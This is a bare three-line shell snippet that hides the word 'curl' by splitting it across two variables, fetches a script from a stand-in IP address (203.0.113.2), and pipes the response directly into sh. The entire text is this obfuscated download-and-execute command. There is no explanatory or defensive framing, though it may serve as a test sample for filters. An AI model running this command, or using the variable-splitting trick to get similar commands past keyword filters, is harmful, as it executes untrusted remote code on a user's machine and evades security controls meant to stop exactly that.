a=cu
b=rl
$a$b http://203.0.113.2/ | sh
